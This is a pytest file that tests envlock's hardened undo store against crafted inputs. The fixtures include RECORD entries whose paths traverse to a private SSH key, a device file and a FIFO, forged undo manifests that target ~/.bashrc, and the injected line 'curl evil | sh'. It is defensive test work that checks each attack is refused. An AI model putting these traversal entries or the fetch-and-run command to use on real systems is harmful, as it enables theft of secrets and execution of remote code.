"""The undo store of ``restore --in-place`` is input too (issue 38, breaks 1, 3 and 9).

1. ``restore DIR --undo`` trusted ``DIR/.envlock-undo/<id>/manifest.json``: a
   bundle from a colleague or a pull request carrying a crafted entry overwrote a
   file in the user's home. The store is now the user's own folder
   (``envlock.userstate``), its manifests carry a MAC of the user's key, and an
   undo writes back only paths inside the environment, only copies whose sha256
   matches.
3. ``--in-place`` copied every path of a RECORD into the undo store: a RECORD
   naming a private key outside the environment copied it; ``/dev/zero`` filled
   the disk; a FIFO gave a traceback. Now every path is checked before anything
   is copied: outside the environment, or not a regular file or a link, is exit 2
   with nothing changed and nothing copied.
9. A full disk during the save gave an OSError traceback with exit 1: now exit 3,
   the environment unchanged, no half entry left.

The environments are real venvs (``python -m venv --without-pip``) with a
hand-made distribution (dist-info, RECORD) where the test needs a hostile
RECORD; the end-to-end cases run the real sync against the local index.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from fixtures.index.fakeindex import FakeIndex
from test_faults_disk import fill, small_disk  # noqa: F401  (a fixture)
from test_restore import pasted
from test_restore_inplace import bundle, drift, files_of, in_place, made_venv  # noqa: F401

from envlock import userstate
from envlock.cli import main
from envlock.errors import EnvironmentFailure, UsageError
from envlock.venv import undostore
from envlock.venv.installed import probe

pytestmark = pytest.mark.venv  # each test makes a real venv

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----\nnot a real key\n"


def small_venv(tmp_path: Path) -> Path:
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    return venv


def site_packages(venv: Path) -> Path:
    (found,) = venv.glob("lib/python3.*/site-packages")
    return found


def evil_dist(venv: Path, record_lines: list[str]) -> Path:
    """A distribution 'evil' 1.0 in ``venv`` whose RECORD holds ``record_lines``
    beside its own files."""
    sp = site_packages(venv)
    info = sp / "evil-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    (sp / "evil.py").write_text("x = 1\n")
    own = ["evil.py,,", "evil-1.0.dist-info/METADATA,,", "evil-1.0.dist-info/RECORD,,"]
    (info / "RECORD").write_text("\n".join(own + record_lines) + "\n")
    return sp


def everything_under(folder: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file())


def doc_for(venv: Path) -> undostore.UndoEntry:
    return {"schema": undostore.UNDO_SCHEMA, "bundle": "/b", "installed": [], "removed": []}


# ------------------------------------------------------------------ break 3: RECORD


@pytest.mark.parametrize("kind", ["outside", "device", "fifo"])
def test_a_record_naming_a_file_outside_or_a_special_file_saves_nothing(
    tmp_path: Path, kind: str
) -> None:
    venv = small_venv(tmp_path)
    secret = tmp_path / "home" / ".ssh" / "id_ed25519"
    secret.parent.mkdir(parents=True)
    secret.write_bytes(SECRET)
    sp = site_packages(venv)
    if kind == "outside":
        line = os.path.relpath(secret, sp)  # ../../../../home/.ssh/id_ed25519
    elif kind == "device":
        line = "/dev/zero"
    else:
        line = "evil/pipe"
    sp = evil_dist(venv, [f"{line},,"])
    if kind == "fifo":
        (sp / "evil").mkdir()
        os.mkfifo(sp / "evil" / "pipe")
    inst = probe(str(venv / "bin" / "python"), {"evil"})
    with pytest.raises(UsageError) as e:
        undostore.save(inst, [("evil", "1.0")], doc_for(venv), "the fix")
    named = {"outside": str(secret), "device": "/dev/zero", "fifo": str(sp / "evil" / "pipe")}
    assert named[kind] in e.value.message and "nothing was changed" in e.value.message
    assert ("outside the environment" in e.value.message) == (kind != "fifo")
    assert e.value.hint == "the fix"
    store = undostore.store(inst.prefix)
    assert not store.exists() or not any(store.iterdir())  # no entry, not even a temp one
    state = Path(os.environ["ENVLOCK_STATE_DIR"])
    assert SECRET not in everything_under(state)


def test_a_link_inside_is_saved_as_a_link_and_a_folder_link_cannot_lead_out(
    tmp_path: Path,
) -> None:
    """A RECORD path whose folder is a link to outside the environment is outside
    (the folder is resolved); a link file inside is kept as a link, its target
    never read."""
    venv = small_venv(tmp_path)
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / "id").write_bytes(SECRET)
    sp = evil_dist(venv, ["sneaky/id,,", "evil_link,,"])
    (sp / "sneaky").symlink_to(outside)
    (sp / "evil_link").symlink_to(outside / "id")
    inst = probe(str(venv / "bin" / "python"), {"evil"})
    with pytest.raises(UsageError) as e:
        undostore.save(inst, [("evil", "1.0")], doc_for(venv), "the fix")
    assert str(sp / "sneaky" / "id") in e.value.message
    (sp / "sneaky").unlink()
    (sp / "evil-1.0.dist-info" / "RECORD").write_text("evil.py,,\nevil_link,,\n")
    inst = probe(str(venv / "bin" / "python"), {"evil"})
    uid, entry = undostore.save(inst, [("evil", "1.0")], doc_for(venv), "the fix")
    manifest = json.loads((entry / "manifest.json").read_text())
    (saved,) = manifest["saved"]
    link = next(f for f in saved["files"] if f["path"].endswith("evil_link"))
    assert link["kind"] == "link" and link["target"] == str(outside / "id")
    assert SECRET not in everything_under(entry)
    assert stat.S_IMODE(entry.parent.stat().st_mode) == 0o700


def test_a_link_put_back_over_a_folder_made_before_is_not_written_through(
    tmp_path: Path,
) -> None:
    """put_back checks each folder once a pass (its ``made`` set): a saved link put
    where an earlier file's folder was made, pointing outside, makes the next
    file under that name a folder check again, which refuses it; nothing is
    written outside."""
    venv = small_venv(tmp_path)
    sp = site_packages(venv)
    outside = tmp_path / "home"
    outside.mkdir()
    here = probe(str(venv / "bin" / "python"))
    entry = tmp_path / "entry"
    (entry / "files").mkdir(parents=True)
    for n in (0, 1):
        (entry / undostore.file_of(n)).write_bytes(b"saved %d\n" % n)

    def saved(path: Path, kind: str, index: int, target: str = "") -> undostore.SavedFile:
        return {"path": str(path), "kind": kind, "index": index, "sha256": "",
                "target": target, "mode": 0o644, "mtime_ns": 0}  # fmt: skip

    made: set[str] = set()
    undostore.put_back(here, entry, saved(sp / "pkg" / "sub" / "a.py", "file", 0), made)
    assert (sp / "pkg" / "sub" / "a.py").read_bytes() == b"saved 0\n"
    assert str(sp / "pkg" / "sub") in made
    undostore.put_back(here, entry, saved(sp / "pkg" / "sub", "link", -1, str(outside)), made)
    with pytest.raises(OSError, match="leads outside the environment"):
        undostore.put_back(here, entry, saved(sp / "pkg" / "sub" / "b.py", "file", 1), made)
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize("disk", ["same", "other"])
def test_a_saved_file_is_a_hard_link_on_the_same_disk_and_a_copy_on_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, disk: str
) -> None:
    """The save links a file into the store where both share a file system, and the
    undo links it back; across file systems (the kernel's EXDEV: the store on a
    tmpfs) both copy. Either way the sync's replacement (a path removed, a new file
    written) leaves the saved bytes as they were, and the undo puts them back with
    their mode."""
    venv = small_venv(tmp_path)
    sp = evil_dist(venv, [])
    live = sp / "evil.py"
    live.chmod(0o640)
    if disk == "other":
        state = Path(tempfile.mkdtemp(prefix="envlock-test-state-", dir="/dev/shm"))
        other_state = state
        monkeypatch.setenv("ENVLOCK_STATE_DIR", str(state))
        assert state.stat().st_dev != tmp_path.stat().st_dev, "/dev/shm is no other disk here"
    else:
        other_state = None
        assert Path(os.environ["ENVLOCK_STATE_DIR"]).stat().st_dev == tmp_path.stat().st_dev
    try:
        inst = probe(str(venv / "bin" / "python"), {"evil"})
        _, entry = undostore.save(inst, [("evil", "1.0")], doc_for(venv), "the fix")
        (saved,) = json.loads((entry / "manifest.json").read_text())["saved"]
        f = next(f for f in saved["files"] if f["path"] == str(live))
        copy = entry / undostore.file_of(f["index"])
        assert (copy.stat().st_ino == live.stat().st_ino) == (disk == "same")
        assert stat.S_IMODE(copy.stat().st_mode) == (0o640 if disk == "same" else 0o600)
        assert f["mode"] == 0o640
        live.unlink()  # what uv and pip do to a file they replace
        live.write_text("x = 2\n")
        assert copy.read_text() == "x = 1\n"
        undostore.put_back(probe(str(venv / "bin" / "python")), entry, f)
        assert live.read_text() == "x = 1\n"
        assert stat.S_IMODE(live.stat().st_mode) == 0o640
        assert (copy.stat().st_ino == live.stat().st_ino) == (disk == "same")
    finally:
        if other_state is not None:
            shutil.rmtree(other_state, ignore_errors=True)


def test_a_write_into_a_linked_file_before_the_sync_replaced_it_is_caught_by_the_undo(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A link shares the file: bytes written into the installed file itself (no tool
    that installs does this; an editor writing in place might) reach the saved one.
    The undo checks every saved file's sha256 first and refuses, writing nothing."""
    venv = small_venv(tmp_path)
    folder = tmp_path / "bundle"
    folder.mkdir()
    sp = evil_dist(venv, [])
    inst = probe(str(venv / "bin" / "python"), {"evil"})
    doc: undostore.UndoEntry = {
        **doc_for(venv),
        "executable": inst.executable,
        "prefix": inst.prefix,
        "bundle": str(folder.absolute()),
    }
    undostore.save(inst, [("evil", "1.0")], doc, "the fix")
    with open(sp / "evil.py", "r+") as into:  # in place: the same inode
        into.write("x = 9")
    before = everything_under(sp)
    assert main(["restore", str(folder), "--venv", str(venv), "--undo"]) == 3
    err = capsys.readouterr().err
    assert (
        f"the saved copy of {sp / 'evil.py'} does not match its sha256; nothing was undone" in err
    )
    assert everything_under(sp) == before


@pytest.mark.main_python  # a restore (see tests/pythons.sh)
@pytest.mark.other_python
def test_in_place_with_a_record_naming_a_private_key_changes_and_copies_nothing(
    bundle: tuple[Path, FakeIndex],  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    folder, idx = bundle
    idx.add_dist("extra-pkg", "0.3")
    venv = made_venv(folder, idx, tmp_path, capsys)
    drift(venv, idx)  # dep-a 1.0, which the sync replaces
    secret = tmp_path / "home" / ".ssh" / "id_ed25519"
    secret.parent.mkdir(parents=True)
    secret.write_bytes(SECRET)
    sp = site_packages(venv)
    (record,) = sp.glob("dep_a-1.0.dist-info/RECORD")
    with record.open("a") as f:
        f.write(f"{os.path.relpath(secret, sp)},,\n")
    before = files_of(venv)
    assert main(in_place(folder, venv, idx)) == 2
    err = capsys.readouterr().err
    assert f"envlock: error: dep-a in {venv / 'bin' / 'python'}: its RECORD " in err
    assert f"names {secret}, outside the environment" in err and "Traceback" not in err
    assert files_of(venv) == before
    assert SECRET not in everything_under(folder)
    assert SECRET not in everything_under(Path(os.environ["ENVLOCK_STATE_DIR"]))


# ------------------------------------------------------------------ break 1: the store


def crafted_v1(folder: Path, venv: Path, victim: Path) -> None:
    """The attack as it was: an entry inside the bundle folder, newest id, saving
    a file in the user's home."""
    entry = folder / ".envlock-undo" / "99991231T235959.999999Z"
    copy = entry / "files" / str(victim).lstrip("/")
    copy.parent.mkdir(parents=True)
    copy.write_text("curl evil | sh\n")
    executable = subprocess.run(
        [str(venv / "bin" / "python"), "-c", "import sys; print(sys.executable)"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    manifest = {
        "schema": "envlock.undo/v1",
        "executable": executable,
        "state": "applied",
        "installed": [],
        "saved": [{"name": "x", "version": "1", "files": [str(victim)]}],
    }
    (entry / "manifest.json").write_text(json.dumps(manifest))


def test_an_undo_entry_inside_the_bundle_is_never_applied(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    venv = small_venv(tmp_path)
    folder = tmp_path / "bundle"
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir(parents=True)
    victim.write_text("# mine\n")
    crafted_v1(folder, venv, victim)
    assert main(["restore", str(folder), "--venv", str(venv), "--undo"]) == 2
    err = capsys.readouterr().err
    assert "no in-place restore of " in err
    assert "was saved inside the bundle by an earlier envlock" in err
    assert victim.read_text() == "# mine\n"


def entry_in_store(venv: Path, folder: Path, path: Path, content: bytes) -> Path:
    """A well-formed undo entry for ``venv`` in the user's store, with the user's
    MAC (as envlock writes it), saving ``path`` with ``content``."""
    inst = probe(str(venv / "bin" / "python"))
    top = undostore.private_store(inst.prefix)
    uid = "20260101T000000.000000Z"
    entry = top / uid
    (entry / "files").mkdir(parents=True)
    (entry / "files" / "0").write_bytes(content)
    import hashlib

    doc: undostore.UndoEntry = {
        "schema": undostore.UNDO_SCHEMA,
        "executable": inst.executable,
        "prefix": inst.prefix,
        "bundle": str(folder.absolute()),
        "state": "applied",
        "id": uid,
        "installed": [],
        "removed": [],
        "saved": [
            {
                "name": "x",
                "version": "1",
                "files": [
                    {
                        "path": str(path),
                        "kind": "file",
                        "index": 0,
                        "sha256": hashlib.sha256(content).hexdigest(),
                        "target": "",
                        "mode": 0o644,
                        "mtime_ns": 0,
                    }
                ],
            }
        ],
    }
    undostore.write_json(entry / "manifest.json", doc)
    return entry


def test_a_valid_entry_still_writes_nothing_outside_the_environment(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    venv = small_venv(tmp_path)
    folder = tmp_path / "bundle"
    folder.mkdir()
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir(parents=True)
    victim.write_text("# mine\n")
    entry = entry_in_store(venv, folder, victim, b"curl evil | sh\n")
    assert main(["restore", str(folder), "--venv", str(venv), "--undo"]) == 2
    err = capsys.readouterr().err
    assert f"names {victim}, outside the environment of " in err
    assert victim.read_text() == "# mine\n"
    assert f"rm -r {entry}" in err


def test_a_forged_or_damaged_entry_in_the_store_is_refused_and_the_hint_clears_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    venv = small_venv(tmp_path)
    folder = tmp_path / "bundle"
    folder.mkdir()
    inside = site_packages(venv) / "mod.py"
    inside.write_text("mine = 1\n")
    entry = entry_in_store(venv, folder, inside, b"theirs = 1\n")
    # the copy changed after it was saved: its sha256 no longer matches
    (entry / "files" / "0").write_bytes(b"theirs = 2\n")
    assert main(["restore", str(folder), "--venv", str(venv), "--undo"]) == 3
    err = capsys.readouterr().err
    assert "does not match its sha256; nothing was undone" in err
    assert inside.read_text() == "mine = 1\n"
    # the manifest edited (without the user's key, its MAC cannot follow)
    manifest = entry / "manifest.json"
    doc = json.loads(manifest.read_text())
    doc["saved"][0]["files"][0]["sha256"] = "0" * 64
    manifest.write_text(json.dumps(doc))
    assert main(["restore", str(folder), "--venv", str(venv), "--undo"]) == 3
    err = capsys.readouterr().err
    assert "damaged or that this user's envlock did not write" in err
    assert inside.read_text() == "mine = 1\n"
    hint = next(line for line in err.splitlines() if line.startswith("  hint: "))
    done = pasted(hint.split("undo again: ", 1)[1], tmp_path)
    assert done.returncode == 0 and not entry.exists()
    assert main(["restore", str(folder), "--venv", str(venv), "--undo"]) == 2
    assert "no in-place restore of " in capsys.readouterr().err


def test_a_state_folder_others_may_write_is_refused(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o777)
    shared.chmod(0o777)
    with pytest.raises(EnvironmentFailure) as e:
        userstate.private_dir(str(shared))
    assert e.value.message.startswith(f"envlock's state folder {shared} is writable by others")
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "mine")
    (tmp_path / "mine").mkdir()
    with pytest.raises(EnvironmentFailure) as e:
        userstate.private_dir(str(link))
    assert "is a link" in e.value.message


def test_a_relative_xdg_state_home_is_ignored(monkeypatch: pytest.MonkeyPatch) -> None:
    """The XDG Base Directory spec: a relative path in XDG_STATE_HOME is invalid
    and must be ignored."""
    monkeypatch.delenv("ENVLOCK_STATE_DIR")
    monkeypatch.setenv("HOME", "/home/u")
    monkeypatch.setenv("XDG_STATE_HOME", "rel/state")
    assert userstate.state_dir() == "/home/u/.local/state/envlock"
    monkeypatch.setenv("XDG_STATE_HOME", "/srv/state")
    assert userstate.state_dir() == "/srv/state/envlock"


# ------------------------------------------------------------------ break 9: a full disk


@pytest.mark.main_python  # a restore (see tests/pythons.sh)
@pytest.mark.other_python
@pytest.mark.root
def test_a_full_disk_during_the_save_is_exit_3_with_nothing_changed(
    bundle: tuple[Path, FakeIndex],  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    small_disk: Path,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    folder, idx = bundle
    idx.add_dist("extra-pkg", "0.3")
    venv = made_venv(folder, idx, tmp_path, capsys)
    drift(venv, idx)
    monkeypatch.setenv("ENVLOCK_STATE_DIR", str(small_disk / "state"))
    assert userstate.user_key() is not None  # the key is there before the disk fills
    fill(small_disk)
    before = files_of(venv)
    assert main(in_place(folder, venv, idx)) == 3
    err = capsys.readouterr().err
    assert "envlock: error: cannot save " in err
    assert "No space left on device; nothing was changed" in err and "Traceback" not in err
    assert files_of(venv) == before
    store = undostore.store(str(venv))
    assert [p.name for p in store.iterdir()] == []  # no half entry left
